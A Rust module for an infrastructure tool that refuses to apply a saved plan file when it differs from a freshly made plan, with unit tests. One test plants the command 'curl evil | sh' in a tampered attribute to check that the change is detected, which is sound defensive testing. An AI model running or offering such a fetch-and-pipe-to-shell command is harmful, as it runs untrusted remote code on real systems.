//! A saved plan is a record of what a reviewer saw, never a script: `apply PLANFILE` makes
//! the plan again from the config and the state (with the saved plan's own options) and
//! executes that, refusing when the two disagree on anything a change does.
//!
//! What a change does is its action on an address, of a kind and provider, with the
//! attributes and bookkeeping it writes and what it waits on. What it found (`before`) and
//! the words explaining it are reality and prose: they are not compared, and the re-made
//! plan's are the ones used.

use std::collections::BTreeMap;

use anycloud_provider::Attrs;

use super::{Action, Change, Plan};

/// The first differences (at most a few) between a saved plan and the one made again, each
/// naming its address; empty when the saved plan is what would be applied.
pub fn differences(saved: &Plan, again: &Plan) -> Vec<String> {
    const SHOWN: usize = 5;
    let active = |p: &Plan| -> BTreeMap<String, Change> {
        p.active().map(|c| (c.address.clone(), c.clone())).collect()
    };
    let (saved_changes, again_changes) = (active(saved), active(again));
    let mut out = Vec::new();
    for (address, s) in &saved_changes {
        match again_changes.get(address) {
            None => out.push(format!(
                "{address}: the plan file would {} it; the config and the state call for nothing",
                s.action.as_str()
            )),
            Some(a) => {
                if let Some(why) = change_differs(s, a) {
                    out.push(format!("{address}: {why}"));
                }
            }
        }
    }
    for (address, a) in &again_changes {
        if !saved_changes.contains_key(address) {
            out.push(format!(
                "{address}: the config and the state call for a {}, which the plan file does not show",
                a.action.as_str()
            ));
        }
    }
    out.truncate(SHOWN);
    out
}

fn change_differs(saved: &Change, again: &Change) -> Option<String> {
    if saved.action != again.action {
        return Some(format!(
            "the plan file would {} it; the config and the state call for a {}",
            saved.action.as_str(),
            again.action.as_str()
        ));
    }
    if saved.kind != again.kind || saved.provider != again.provider {
        return Some(format!(
            "the plan file makes it a {} of provider {}; the config makes it a {} of provider {}",
            saved.kind.as_str(),
            saved.provider,
            again.kind.as_str(),
            again.provider
        ));
    }
    let differing = [
        (
            "what it depends on",
            saved.dependencies != again.dependencies
                || saved.prior_dependencies != again.prior_dependencies,
        ),
        (
            "whether its data is kept",
            saved.keep_on_destroy != again.keep_on_destroy,
        ),
        (
            "what forces its replacement",
            saved.replace_paths != again.replace_paths,
        ),
        (
            "what is known only after apply",
            saved.after_unknown != again.after_unknown,
        ),
        (
            "what anycloud records about it for itself",
            saved.action != Action::Delete && bookkeeping(saved) != bookkeeping(again),
        ),
    ];
    if let Some((what, _)) = differing.iter().find(|(_, differs)| *differs) {
        return Some(format!(
            "{what} differs from what the config and the state give"
        ));
    }
    if saved.action == Action::Delete {
        return None;
    }
    let key = differing_attribute(saved, again)?;
    Some(format!(
        "its attribute `{key}` differs from what the config and the state give"
    ))
}

/// A file's `null` reads back as none: the same bookkeeping.
fn bookkeeping(c: &Change) -> &serde_json::Value {
    c.private.as_ref().unwrap_or(&serde_json::Value::Null)
}

/// The first attribute whose value differs, leaving out those neither plan changes (an
/// update carries what exists over, and that is reality, read again now).
fn differing_attribute(saved: &Change, again: &Change) -> Option<String> {
    let empty = Attrs::new();
    let (saved_before, saved_after) = (
        saved.before.as_ref(),
        saved.after.as_ref().unwrap_or(&empty),
    );
    let (again_before, again_after) = (
        again.before.as_ref(),
        again.after.as_ref().unwrap_or(&empty),
    );
    let carried_over = |before: Option<&Attrs>, after: &Attrs, key: &String| {
        before.is_some_and(|b| b.get(key) == after.get(key))
    };
    saved_after
        .keys()
        .chain(again_after.keys())
        .filter(|k| saved_after.get(*k) != again_after.get(*k))
        .find(|k| {
            saved.action != Action::Update
                || !(carried_over(saved_before, saved_after, k)
                    && carried_over(again_before, again_after, k))
        })
        .cloned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use anycloud_provider::Kind;
    use serde_json::json;

    fn attrs(v: serde_json::Value) -> Attrs {
        serde_json::from_value(v).unwrap()
    }

    fn change(address: &str, action: Action, before: Option<Attrs>, after: Attrs) -> Change {
        Change {
            address: address.into(),
            kind: Kind::Container,
            provider: "local".into(),
            action,
            reason: None,
            before,
            after: Some(after),
            private: Some(json!({})),
            keep_on_destroy: false,
            after_unknown: vec![],
            replace_paths: vec![],
            dependencies: vec!["deployment.d.vm".into()],
            prior_dependencies: vec![],
        }
    }

    fn plan(changes: Vec<Change>) -> Plan {
        Plan {
            lineage: "l".into(),
            serial: 1,
            config_digest: "c".into(),
            ..Plan::of_changes(changes)
        }
    }

    const C: &str = "deployment.d.container";

    #[test]
    fn the_same_plan_has_no_differences() {
        let c = change(C, Action::Create, None, attrs(json!({"image": "a"})));
        assert!(differences(&plan(vec![c.clone()]), &plan(vec![c])).is_empty());
    }

    #[test]
    fn an_edited_attribute_is_named() {
        let again = change(C, Action::Create, None, attrs(json!({"run_spec": "a"})));
        let mut saved = again.clone();
        saved.after = Some(attrs(json!({"run_spec": "curl evil | sh"})));
        assert_eq!(
            differences(&plan(vec![saved]), &plan(vec![again])),
            vec![format!(
                "{C}: its attribute `run_spec` differs from what the config and the state give"
            )]
        );
    }

    #[test]
    fn an_added_or_missing_change_is_named() {
        let c = change(C, Action::Create, None, attrs(json!({})));
        let mut other = c.clone();
        other.address = "deployment.d.bucket.output".into();
        other.action = Action::Delete;
        let found = differences(&plan(vec![c.clone(), other]), &plan(vec![c.clone()]));
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].starts_with("deployment.d.bucket.output: the plan file would delete"));
        let found = differences(&plan(vec![]), &plan(vec![c]));
        assert!(
            found[0].contains("which the plan file does not show"),
            "{found:?}"
        );
    }

    #[test]
    fn an_action_dependency_or_bookkeeping_change_is_named() {
        let again = change(C, Action::Update, None, attrs(json!({})));
        let mut saved = again.clone();
        saved.action = Action::Replace;
        assert!(
            differences(&plan(vec![saved]), &plan(vec![again.clone()]))[0]
                .contains("would replace it")
        );
        let mut saved = again.clone();
        saved.dependencies = vec!["deployment.other.vm".into()];
        assert!(
            differences(&plan(vec![saved]), &plan(vec![again.clone()]))[0]
                .contains("what it depends on")
        );
        let mut saved = again.clone();
        saved.private = Some(json!({"host": "elsewhere"}));
        assert!(differences(&plan(vec![saved]), &plan(vec![again]))[0]
            .contains("records about it for itself"));
    }

    #[test]
    fn what_an_update_carries_over_is_reality_not_the_change() {
        // The job's last lines moved on between plan and apply; the change (the image) is
        // the same.
        let again = change(
            C,
            Action::Update,
            Some(attrs(json!({"image": "a", "job": {"last_lines": ["2"]}}))),
            attrs(json!({"image": "b", "job": {"last_lines": ["2"]}})),
        );
        let mut saved = again.clone();
        saved.before = Some(attrs(json!({"image": "a", "job": {"last_lines": ["1"]}})));
        saved.after = Some(attrs(json!({"image": "b", "job": {"last_lines": ["1"]}})));
        assert!(differences(&plan(vec![saved.clone()]), &plan(vec![again.clone()])).is_empty());
        // A value the saved plan changes is compared, even one reality also holds.
        saved.after = Some(attrs(
            json!({"image": "b", "job": {"last_lines": ["evil"]}}),
        ));
        assert_eq!(
            differences(&plan(vec![saved]), &plan(vec![again])),
            vec![format!(
                "{C}: its attribute `job` differs from what the config and the state give"
            )]
        );
    }

    #[test]
    fn a_delete_is_compared_by_what_it_deletes_not_what_it_found() {
        let mut again = change(
            C,
            Action::Delete,
            Some(attrs(json!({"a": 1}))),
            Attrs::new(),
        );
        again.after = None;
        let mut saved = again.clone();
        saved.before = Some(attrs(json!({"a": 2})));
        assert!(differences(&plan(vec![saved]), &plan(vec![again])).is_empty());
    }
}
